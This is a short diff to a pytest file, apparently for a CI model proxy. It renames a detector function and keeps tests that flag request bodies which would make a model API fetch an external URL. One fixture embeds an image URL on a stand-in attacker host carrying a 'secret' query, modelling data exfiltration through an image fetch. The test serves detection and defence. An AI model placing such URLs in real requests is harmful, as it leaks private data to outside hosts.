@@ -4,7 +4,7 @@ from typing import Any
 
 import pytest
 
-from zelda_ci.model_proxy.reach import beyond
+from zelda_ci.model_proxy.run import external_address
 
 IMAGE = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?secret"}}
 
@@ -23,7 +23,7 @@ IMAGE = {"type": "image", "source": {"type": "url", "url": "https://evil.example
     ],
 )  # fmt: skip
 def test_what_the_api_would_fetch_for_a_session_is_seen(body: dict[str, Any]) -> None:
-    assert beyond(body)
+    assert external_address(body)
 
 
 @pytest.mark.parametrize(
@@ -37,4 +37,4 @@ def test_what_the_api_would_fetch_for_a_session_is_seen(body: dict[str, Any]) ->
     ],
 )  # fmt: skip
 def test_ordinary_requests_reach_nothing(body: dict[str, Any]) -> None:
-    assert beyond(body) is None
+    assert external_address(body) is None
